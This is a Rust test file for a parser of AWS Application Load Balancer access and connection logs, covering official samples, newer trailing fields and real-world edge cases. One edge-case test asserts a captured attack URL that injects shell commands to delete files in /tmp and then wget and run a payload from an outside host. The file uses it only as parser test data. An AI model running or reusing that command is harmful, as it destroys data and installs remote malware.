//! ALB access and connection logs: every official sample, the trailing fields AWS added since,
//! and real-world oddities (`data/lb/alb-edge-cases.log`).

use logdesk_core::alb::{self, Endpoint};
use logdesk_core::alb_connection;
use logdesk_core::record::{ConnectionRecord, Record, RequestRecord};
use logdesk_core::{ParseError, SCHEMA_VERSION};

const SAMPLES: &str = include_str!("data/alb-samples.log");
const EDGE: &str = include_str!("data/lb/alb-edge-cases.log");
const CONNECTION: &str = include_str!("data/alb-connection-samples.log");

#[test]
fn every_sample_parses_with_and_without_newer_fields() {
    let suffixes = [
        "",
        " TID_1234abcd5678ef90",
        r#" TID_1234abcd5678ef90 "-" "-" "-""#,
        r#" TID_1234abcd5678ef90 "-" "-" "-" 10.0.0.5"#,
    ];
    for line in SAMPLES.lines().chain(EDGE.lines()) {
        let base = alb::parse_line(line).unwrap_or_else(|e| panic!("{e}: {line}"));
        if base.conn_trace_id.is_some() {
            continue;
        }
        for suffix in suffixes {
            let longer = format!("{line}{suffix}");
            let entry = alb::parse_line(&longer).unwrap_or_else(|e| panic!("{e}: {longer}"));
            let want_tid = (!suffix.is_empty()).then_some("TID_1234abcd5678ef90");
            assert_eq!(entry.conn_trace_id, want_tid, "{longer}");
            let want_extra: Vec<&str> = if suffix.ends_with("10.0.0.5") {
                vec!["10.0.0.5"]
            } else {
                vec![]
            };
            assert_eq!(entry.extra, want_extra, "{longer}");
            assert_eq!(entry.transformed_host, None);
            // Everything up to the old end is unchanged.
            assert_eq!(
                alb::AlbEntry {
                    conn_trace_id: None,
                    extra: Vec::new(),
                    ..entry
                },
                base
            );
        }
    }
}

#[test]
fn first_doc_sample_as_a_whole_record() {
    let line = SAMPLES.lines().next().unwrap();
    let want = Record::Alb(RequestRecord {
        v: SCHEMA_VERSION,
        t: 1_530_570_168_364_000,
        end: Some(1_530_570_180_186_641),
        kind: Some("http".into()),
        server: Some("app/my-loadbalancer/50dc6c495c0c9188".into()),
        client_ip: Some("192.168.131.39".into()),
        client_port: Some(2817),
        target_ip: Some("10.0.0.1".into()),
        target_port: Some(80),
        method: Some("GET".into()),
        url: Some("http://www.example.com:80/".into()),
        protocol: Some("HTTP/1.1".into()),
        status: Some(200),
        target_status: Some(200),
        received_bytes: Some(34),
        sent_bytes: Some(366),
        user_agent: Some("curl/7.46.0".into()),
        request_time: Some(0.0),
        target_time: Some(0.001),
        response_time: Some(0.0),
        target_group: Some(
            "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"
                .into(),
        ),
        trace_id: Some("Root=1-58337262-36d228ad5d99923122bbe354".into()),
        rule_priority: Some(0),
        actions: Some("forward".into()),
        ..RequestRecord::default()
    });
    assert_eq!(alb::parse_record(line), Ok(want.clone()));
    // And the JSON survives a round trip.
    assert_eq!(Record::from_json(&want.to_json()).unwrap(), want);
}

#[test]
fn lambda_failure_sample() {
    let line = SAMPLES.lines().last().unwrap();
    let entry = alb::parse_line(line).unwrap();
    assert_eq!(entry.target, None);
    assert_eq!(
        (entry.elb_status_code, entry.target_status_code),
        (Some(502), None)
    );
    assert_eq!(entry.error_reason.as_deref(), Some("LambdaInvalidResponse"));
    let Record::Alb(record) = alb::parse_record(line).unwrap() else {
        panic!("not an ALB record");
    };
    assert_eq!(
        (record.target_list, record.target_status_list),
        (None, None)
    );
}

#[test]
fn edge_case_lines() {
    let lines: Vec<&str> = EDGE.lines().collect();

    let v6 = alb::parse_line(lines[0]).unwrap();
    assert_eq!(
        v6.client,
        Some(Endpoint {
            ip: "2a02:a33c:4538:1:bcf4:5264:e01c:f215",
            port: 50718
        })
    );
    assert_eq!(v6.chosen_cert_arn.as_deref(), Some("session-reused"));
    assert_eq!(
        v6.conn_trace_id,
        Some("TID_3180a73013c8ca4bac2f731159d4b0fe")
    );

    let space = alb::parse_line(lines[1]).unwrap();
    assert_eq!(
        space.request.url.as_deref(),
        Some("http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
    );
    assert_eq!(
        (
            space.classification.as_deref(),
            space.classification_reason.as_deref()
        ),
        (Some("Acceptable"), Some("SpaceInUri"))
    );

    let Record::Alb(malformed) = alb::parse_record(lines[2]).unwrap() else {
        panic!("not an ALB record");
    };
    assert_eq!(
        malformed,
        RequestRecord {
            v: SCHEMA_VERSION,
            t: 1_646_092_806_000_000,
            end: Some(1_646_092_806_000_000),
            kind: Some("http".into()),
            server: Some("app/web-prod/8a1b2c3d4e5f6a7b".into()),
            client_ip: Some("203.0.113.9".into()),
            client_port: Some(1234),
            request_raw: Some("- http://www.example.com:80- -".into()),
            status: Some(400),
            received_bytes: Some(0),
            sent_bytes: Some(272),
            ..RequestRecord::default()
        }
    );

    let Record::Alb(escaped) = alb::parse_record(lines[3]).unwrap() else {
        panic!("not an ALB record");
    };
    assert_eq!(
        escaped.url.as_deref(),
        Some("https://www.example.jp:443/検索?q=\"quoted\"")
    );
    assert_eq!(
        escaped.user_agent.as_deref(),
        Some("Mozilla/5.0 \"weird\" テスト")
    );
    assert_eq!(escaped.actions.as_deref(), Some("waf,forward"));
    assert_eq!(
        escaped.conn_trace_id.as_deref(),
        Some("TID_16132ed0b4112148")
    );
    assert_eq!(escaped.extra, vec!["10.0.9.9".to_string()]);
    assert_eq!(escaped.latency(), Some(0.113));
}

#[test]
fn direct_json_writer_matches_the_record() {
    for line in SAMPLES.lines().chain(EDGE.lines()) {
        let entry = alb::parse_line(line).unwrap();
        let mut fast = String::new();
        entry.write_record_json(&mut fast);
        let want = Record::Alb(entry.to_record()).to_json();
        assert_eq!(fast, want);
        // What the ingest runs: the same bytes, also where the line has escapes.
        let mut direct = String::new();
        assert_eq!(
            alb::line_to_json(line, &mut direct),
            Ok(entry.record_time())
        );
        assert_eq!(direct, want, "{line}");
    }
}

#[test]
fn control_line_from_the_test_object() {
    let line = "Enable AccessLog for ELB: app/elb-name/abc123456 at 2025-05-30T16:47:00.781Z";
    assert!(alb::is_control_line(line));
    assert!(alb::parse_line(line).is_err());
    assert!(SAMPLES.lines().all(|l| !alb::is_control_line(l)));
}

#[test]
fn every_connection_sample_parses() {
    for line in CONNECTION.lines() {
        let base = alb_connection::parse_line(line).unwrap_or_else(|e| panic!("{e}: {line}"));
        let longer = format!("{line} X25519 app/my-lb/1234 10.0.0.9 newer");
        let entry = alb_connection::parse_line(&longer).unwrap();
        if base.conn_trace_id.is_some() {
            assert_eq!(entry.tls_keyexchange, Some("X25519"));
            assert_eq!(entry.ip_address, Some("10.0.0.9"));
            assert_eq!(entry.extra, vec!["newer"]);
        }
    }
}

#[test]
fn connection_samples_as_whole_records() {
    let lines: Vec<&str> = CONNECTION.lines().collect();
    let first = ConnectionRecord {
        v: SCHEMA_VERSION,
        t: 1_696_439_115_514_108,
        client_ip: Some("203.0.113.1".into()),
        client_port: Some(36280),
        listener_port: Some(443),
        tls_protocol: Some("TLSv1.2".into()),
        tls_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256".into()),
        handshake_time: Some(4.036),
        client_cert_subject: Some(
            "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US".into(),
        ),
        client_cert_validity: Some(
            "NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z".into(),
        ),
        cert_serial: Some("FEF257372D5C14D4".into()),
        verify_status: Some("Success".into()),
        conn_trace_id: Some("TID_3180a73013c8ca4bac2f731159d4b0fe".into()),
        ..ConnectionRecord::default()
    };
    assert_eq!(
        alb_connection::parse_record(lines[0]),
        Ok(Record::AlbConnection(first))
    );
    let plain = ConnectionRecord {
        v: SCHEMA_VERSION,
        t: 1_732_887_924_599_544,
        client_ip: Some("172.31.43.26".into()),
        client_port: Some(58206),
        listener_port: Some(80),
        conn_trace_id: Some("TID_16132ed0b4112148".into()),
        ..ConnectionRecord::default()
    };
    assert_eq!(
        alb_connection::parse_record(lines[4]),
        Ok(Record::AlbConnection(plain))
    );
    let failed = alb_connection::parse_line(lines[3]).unwrap();
    assert_eq!(
        (
            failed.tls_handshake_latency,
            failed.tls_verify_status,
            failed.conn_trace_id
        ),
        (None, Some("Failed:ClientCertUntrusted"), None)
    );
}

#[test]
fn every_prefix_of_every_sample_is_an_answer_not_a_panic() {
    for line in SAMPLES.lines().chain(EDGE.lines()) {
        for (cut, _) in line.char_indices() {
            match alb::parse_line(&line[..cut]) {
                Ok(_) | Err(ParseError::Empty) => {}
                Err(ParseError::MissingField(name))
                | Err(ParseError::Unterminated(name))
                | Err(ParseError::InvalidField { field: name, .. }) => assert!(!name.is_empty()),
                Err(other) => panic!("{other}"),
            }
        }
    }
}
